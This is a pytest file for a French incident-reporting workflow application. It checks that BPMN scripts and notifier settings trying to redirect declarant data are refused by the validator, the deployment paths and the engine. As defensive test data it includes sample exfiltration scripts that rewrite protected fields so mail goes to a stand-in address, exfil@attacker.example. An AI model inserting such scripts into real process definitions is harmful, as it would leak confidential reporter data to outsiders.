"""Data the BPMN cannot touch and recipients as roles (issue 18): the process owner's exfiltration steps fail
at the first step that should refuse them.

A preScript on `mil_issue` (or `p2_ar`) that sets `declarant = {"email": "exfil@attacker.example"}` is refused by
the validator, hence by every deployment path; deployed with the validator bypassed (the definition row written
directly), the engine refuses the write when it runs and nothing is committed nor mailed. A notifier given an
address is refused by the validator and at run time; the declarant's address comes from the database.
"""
from __future__ import annotations

import ast
import io
import json

import pytest
from sqlalchemy import func, select

from cli import scenarios
from engine import parsing, protected, serialization
from engine.errors import EngineError
from mail import mailer
from models import AuditEvent, OutboxMessage, ProcessDefinition, ProcessInstance, Structure, TaskRow, User, db
from tests.test_mail import free_port, start_server
from tests.test_validation import FORMS, SHIPPED, broken, lines
from tests.test_web_support import csrf, login
from validation import protected_data, validator
from validation.problems import ValidationFailed
from workflow import commands, context, deployment

OWNER = "processus@hfds.example.fr"
EXFIL = "exfil@attacker.example"
STOLEN = f'declarant = {{"email": "{EXFIL}", "nom": "x"}}'
MIL_ISSUE = '<bpmn:serviceTask id="mil_issue" name="Informer le déclarant de l\'issue du traitement par le ministère des armées">'
P2_AR = '<bpmn:serviceTask id="p2_ar"'


def with_prescript(element_start: str, script: str, kind: str = "preScript") -> str:
    """The shipped BPMN with a pre- (or post-) script added to the element's extension elements."""
    start = SHIPPED.index(element_start)
    at = SHIPPED.index("<bpmn:extensionElements>", start) + len("<bpmn:extensionElements>")
    return SHIPPED[:at] + f"<spiffworkflow:{kind}>{script}</spiffworkflow:{kind}>" + SHIPPED[at:]


def notifier_of(element_id: str, value: str) -> str:
    """The shipped BPMN with the `destinataires` parameter of one notifier task replaced."""
    start = SHIPPED.index(f'id="{element_id}"')
    at = SHIPPED.index('<spiffworkflow:parameter id="destinataires"', start)
    end = SHIPPED.index("/>", at) + 2
    escaped = value.replace("&", "&amp;").replace('"', "&quot;")
    return SHIPPED[:at] + f'<spiffworkflow:parameter id="destinataires" type="any" value="{escaped}" />' + SHIPPED[end:]


def result_of(element_id: str, name: str) -> str:
    """The shipped BPMN with one service task's result stored under another name."""
    start = SHIPPED.index(f'id="{element_id}"')
    at = SHIPPED.index('resultVariable="', start) + len('resultVariable="')
    return SHIPPED[:at] + name + SHIPPED[SHIPPED.index('"', at):]


def bypassing_the_validator(xml: str) -> ProcessDefinition:
    """Store and activate a version without the validator (the lower-level write a bug or a hand could do)."""
    spec, subs = parsing.parse_bpmn(xml, deployment.process_id())
    active = deployment.active_definition()
    definition = ProcessDefinition(process_id=spec.name, name=spec.description or spec.name,
                                   content_hash=serialization.sha256(xml), bpmn_xml=xml, forms=active.forms,
                                   spec_json=serialization.spec_to_json(spec, subs), deployed_at=active.deployed_at,
                                   deployed_by="test")
    db.session.add(definition)
    db.session.flush()
    deployment.set_active(definition)
    db.session.commit()
    return definition


def _state(dossier) -> tuple:
    instance = db.session.get(ProcessInstance, dossier.instance_id)
    db.session.refresh(instance)
    outbox = db.session.scalar(select(func.count()).select_from(OutboxMessage))
    events = db.session.scalar(select(func.count()).select_from(AuditEvent))
    return instance.last_seq, instance.state_hash, outbox, events


# --------------------------------------------------------------------------------------------
# The validator (no database)

@pytest.mark.parametrize("script, name", [
    (STOLEN, "declarant"),
    ('declarant["email"] = "exfil@attacker.example"', "declarant"),
    ('structure = {"email": "exfil@attacker.example"}', "structure"),
    ('dossier = {"numero": "SSI-2026-99999"}', "dossier"),
    ('finess_site = "350000000"', "finess_site"),
    ("del declarant", "declarant"),
    ('declarant += {"email": "x"}', "declarant"),
    ('declarant.email = "x"', "declarant"),
    ('x, structure = 1, 2', "structure"),
    ('declarant.update({"email": "x"})', "declarant"),
    ('niveau_confidentialite = "non_protege"', "niveau_confidentialite"),
    ('information_armees = "acss"', "information_armees"),
])
def test_a_script_writing_protected_data_is_refused_naming_the_element_and_the_name(script, name):
    for kind in ("preScript", "postScript"):
        found = [line for line in lines(with_prescript(MIL_ISSUE, script, kind)) if "fixée par l'application" in line]
        assert len(found) == 1, found
        assert "élément « mil_issue »" in found[0] and f"« {name} »" in found[0]
        assert ("le pré-script" if kind == "preScript" else "le post-script") in found[0]


def test_the_exfiltration_prescript_is_refused_on_p2_ar_and_by_deploy():
    found = lines(with_prescript(P2_AR, STOLEN))
    assert any("élément « p2_ar »" in line and "« declarant »" in line and "ne peut pas modifier" in line
               for line in found), found
    with pytest.raises(ValidationFailed) as refused:
        validator.ensure_valid(with_prescript(MIL_ISSUE, STOLEN), FORMS, "v2.bpmn", lint=False)
    assert "« mil_issue »" in refused.value.message and "« declarant »" in refused.value.message


def test_a_service_result_or_a_form_field_under_a_protected_name_is_refused():
    found = lines(broken('resultVariable="alerte"', 'resultVariable="declarant"'))
    assert any("« p4bis_alerte »" in line and "enregistre son résultat sous « declarant »" in line for line in found)
    forms = json.loads(json.dumps(FORMS))
    forms["p2-ouverture.schema.json"]["properties"]["structure"] = {"type": "string"}
    found = lines(SHIPPED, forms)
    assert any("« p2-ouverture.schema.json » a un champ « structure »" in line for line in found), found


def test_an_expression_that_assigns_protected_data_is_refused():
    found = lines(broken('value="[\'armees\']"', 'value="[(declarant := \'armees\')]"'))
    assert any("« mil_chaine »" in line and "l'expression écrit « declarant »" in line for line in found), found


def test_a_data_object_named_like_protected_data_is_refused():
    process_start = SHIPPED.index(">", SHIPPED.index("<bpmn:process ")) + 1
    xml = SHIPPED[:process_start] + '<bpmn:dataObject id="declarant" />' + SHIPPED[process_start:]
    found = [line for line in lines(xml) if "objet de données" in line]
    assert len(found) == 1 and "« declarant »" in found[0] and "ne peut pas modifier" in found[0], found


def test_reading_protected_data_stays_allowed():
    assert lines(with_prescript(MIL_ISSUE, 'contact = declarant.get("email")\nsite = finess_site')) == []
    assert protected_data.written_names(ast.parse('x = declarant["email"]\ny = structure.get("nom")')) == {"x", "y"}


@pytest.mark.parametrize("value, reason", [
    (f"['{EXFIL}']", f"« {EXFIL} » est une adresse"),
    (f"'{EXFIL}'", f"« {EXFIL} » est une adresse"),
    ("[declarant['email']]", "« declarant['email'] » n'est pas un rôle écrit en toutes lettres"),
    ("destinataires_choisis", "« destinataires_choisis » n'est pas un rôle écrit en toutes lettres"),
    ("['declarant', 'armes']", "« armes » n'est pas un rôle destinataire connu"),
    ("['ars'] + ([structure['email']] if qualification == 'grave' else [])", "« structure['email'] »"),
])
def test_a_notifier_given_anything_but_roles_is_refused(value, reason):
    found = [line for line in lines(notifier_of("mil_issue", value)) if "destinataire refusé" in line]
    assert len(found) == 1 and "élément « mil_issue »" in found[0] and reason in found[0], found


def test_roles_written_out_pass_even_under_a_condition():
    assert lines(notifier_of("mil_issue", "'declarant'")) == []
    assert lines(notifier_of("mil_issue", "['declarant', 'ars'] + (['hfds'] if qualification == 'significatif' "
                                          "else [])")) == []


def test_the_web_access_restricted_fields_are_protected():
    from web import access
    assert set(access.RESTRICTED_FIELDS) <= protected.PROTECTED


# --------------------------------------------------------------------------------------------
# Every deployment path refuses them

def test_cli_deploy_web_upload_and_modeller_refuse_the_exfiltration(app, client, runner, tmp_path):
    count = db.session.scalar(select(func.count()).select_from(ProcessDefinition))
    attack = with_prescript(MIL_ISSUE, STOLEN)
    path = tmp_path / "exfil.bpmn"
    path.write_text(attack, encoding="utf-8")
    result = runner.invoke(args=["deploy", str(path)])
    assert result.exit_code != 0 and "« mil_issue »" in result.output and "« declarant »" in result.output
    with pytest.raises(ValidationFailed):
        deployment.deploy(path)  # what the start command (init-db) calls with the configured file
    login(client, OWNER)
    response = client.post("/admin/processus/deployer", headers={"Accept": "application/json"},
                           data={"csrf_token": csrf(client), "bpmn": (io.BytesIO(attack.encode()), "exfil.bpmn")},
                           content_type="multipart/form-data")
    assert response.status_code == 422
    assert any(p["element"] == "mil_issue" and p["regle"] == "donnee_protegee" for p in response.json["problemes"])
    address = notifier_of("mil_issue", f"['{EXFIL}']")
    response = client.post("/admin/processus/deployer", headers={"Accept": "application/json"},
                           data={"csrf_token": csrf(client), "bpmn": (io.BytesIO(address.encode()), "adresse.bpmn")},
                           content_type="multipart/form-data")
    assert response.status_code == 422
    assert any(p["element"] == "mil_issue" and p["regle"] == "destinataire" for p in response.json["problemes"])
    checked = client.post("/admin/processus/modeleur/verifier", json={"xml": attack, "forms": {}},
                          headers={"X-CSRFToken": csrf(client)}).get_json()
    assert "« declarant »" in json.dumps(checked, ensure_ascii=False)
    assert db.session.scalar(select(func.count()).select_from(ProcessDefinition)) == count


# --------------------------------------------------------------------------------------------
# The engine, validator bypassed

@pytest.fixture
def smtp(app):
    port = free_port()
    controller, recorder = start_server(port)
    app.config.update(MAIL_BACKEND="smtp", SMTP_HOST="127.0.0.1", SMTP_PORT=port, SMTP_SECURITY="none")
    yield recorder
    controller.stop()


def _delivered_to(recorder) -> set:
    mailer.deliver_due()
    return {address for _, rcpts, _ in recorder.received for address in rcpts}


def test_the_exfiltration_of_a_military_dossier_is_refused_at_run_time(app, clock, smtp):
    dossier, _ = scenarios.run("militaire_sans_impact", clock, until="mil_traiter")
    attack = bypassing_the_validator(with_prescript(MIL_ISSUE, STOLEN))
    commands.migrate_dossier(dossier, attack, context.Actor("processus@hfds.example.fr", "responsable_processus"))
    row = scenarios.ready_task(dossier, "mil_traiter")
    before = _state(dossier)
    data = dict(scenarios.SCENARIOS["militaire_sans_impact"].steps)["mil_traiter"]
    with pytest.raises(EngineError) as refused:
        commands.complete_task(row.id, data, scenarios.actor_for(row))
    assert refused.value.status == 422
    assert "pré-script" in refused.value.message and "« mil_issue »" in refused.value.message
    assert "« declarant »" in refused.value.message and "Rien n'a été enregistré" in refused.value.message
    db.session.rollback()
    assert _state(dossier) == before  # no state, event nor message committed
    assert db.session.get(TaskRow, row.id).status == "ready"
    assert EXFIL not in _delivered_to(smtp)
    assert all(EXFIL not in (m.recipients or []) for m in db.session.scalars(select(OutboxMessage)))


def test_the_exfiltration_of_every_new_declaration_is_refused_at_run_time(app, clock, smtp):
    bypassing_the_validator(with_prescript(P2_AR, STOLEN))
    with pytest.raises(EngineError) as refused:
        scenarios.run("grave_acss", clock, until="p2_ouvrir")
    assert refused.value.status == 422 and "« p2_ar »" in refused.value.message
    db.session.rollback()
    assert EXFIL not in _delivered_to(smtp)


@pytest.mark.parametrize("edit", [
    lambda: with_prescript(MIL_ISSUE, 'structure = {"email": "x@attacker.example"}', "postScript"),
    lambda: with_prescript(MIL_ISSUE, 'dossier = {"numero": "SSI-2026-99999"}'),
    lambda: result_of("mil_issue", "declarant"),
], ids=["postScript-structure", "preScript-dossier", "resultVariable-declarant"])
def test_writes_of_structure_dossier_or_a_result_under_declarant_are_refused_at_run_time(app, clock, edit):
    dossier, _ = scenarios.run("militaire_sans_impact", clock, until="mil_traiter")
    target = bypassing_the_validator(edit())
    commands.migrate_dossier(dossier, target, context.Actor("processus@hfds.example.fr", "responsable_processus"))
    row = scenarios.ready_task(dossier, "mil_traiter")
    before = _state(dossier)
    data = dict(scenarios.SCENARIOS["militaire_sans_impact"].steps)["mil_traiter"]
    with pytest.raises(EngineError) as refused:
        commands.complete_task(row.id, data, scenarios.actor_for(row))
    assert refused.value.status == 422 and "« mil_issue »" in refused.value.message
    assert "fixées par l'application" in refused.value.message or \
        "enregistre son résultat sous « declarant »" in refused.value.message
    db.session.rollback()
    assert _state(dossier) == before


@pytest.mark.parametrize("value", [f"['{EXFIL}']", "[declarant['email']]", "[('ars', 'Bretagne')]"])
def test_a_notifier_given_an_address_is_refused_at_run_time(app, clock, smtp, value):
    dossier, _ = scenarios.run("militaire_sans_impact", clock, until="mil_traiter")
    target = bypassing_the_validator(notifier_of("mil_issue", value))
    commands.migrate_dossier(dossier, target, context.Actor("processus@hfds.example.fr", "responsable_processus"))
    row = scenarios.ready_task(dossier, "mil_traiter")
    before = _state(dossier)
    data = dict(scenarios.SCENARIOS["militaire_sans_impact"].steps)["mil_traiter"]
    with pytest.raises(EngineError) as refused:
        commands.complete_task(row.id, data, scenarios.actor_for(row))
    assert refused.value.status == 422 and "n'est adressé qu'à un rôle" in refused.value.message
    db.session.rollback()
    assert _state(dossier) == before
    assert all("@attacker" not in address for address in _delivered_to(smtp))


def test_the_declarant_is_mailed_at_the_account_address_whatever_the_task_data_says(app, clock, smtp):
    """Start data claiming another address (as an injected write would) changes nothing: the mail layer reads
    the account; an inactive account gives the structure's contact address."""
    declarant = db.session.scalar(select(User).where(User.email == "declarant.rennes@chu-rennes.example.fr"))
    structure = db.session.get(Structure, declarant.structure_id)
    dossier = commands.start_dossier(structure, declarant, context.Actor.of(declarant),
                                     extra={"declarant": {"email": EXFIL}})
    steps = scenarios.SCENARIOS["grave_acss"].steps
    data = dict(steps)
    for step, values in steps[:[name for name, _ in steps].index("p2_ouvrir")]:  # the declaration
        row = scenarios.ready_task(dossier, step)
        commands.complete_task(row.id, values, scenarios.actor_for(row))
    acknowledgements = [m for m in db.session.scalars(select(OutboxMessage).where(
        OutboxMessage.dossier_id == dossier.id)) if "declarant" in m.recipient_roles]
    assert acknowledgements and all(m.recipients == [declarant.email] for m in acknowledgements)
    assert EXFIL not in _delivered_to(smtp)
    declarant.active = False
    db.session.commit()
    row = scenarios.ready_task(dossier, "p2_ouvrir")
    commands.complete_task(row.id, data["p2_ouvrir"], scenarios.actor_for(row))
    later = db.session.scalars(select(OutboxMessage).where(OutboxMessage.dossier_id == dossier.id,
                                                           OutboxMessage.kind == "prise_en_compte")).all()
    assert [m.recipients for m in later] == [[structure.email]] and structure.email


def test_a_submitted_form_cannot_carry_start_data(app, clock):
    """Even through a form whose schema lets other fields through, the start data stays the application's."""
    dossier, _ = scenarios.run("grave_acss", clock, until="p2_ouvrir")
    row = scenarios.ready_task(dossier, "p2_ouvrir")
    values = dict(dict(scenarios.SCENARIOS["grave_acss"].steps)["p2_ouvrir"], declarant={"email": EXFIL})
    before = _state(dossier)
    with pytest.raises(EngineError) as refused:
        commands.complete_task(row.id, values, scenarios.actor_for(row))
    assert refused.value.status == 422 and "« declarant »" in refused.value.message
    db.session.rollback()
    assert _state(dossier) == before
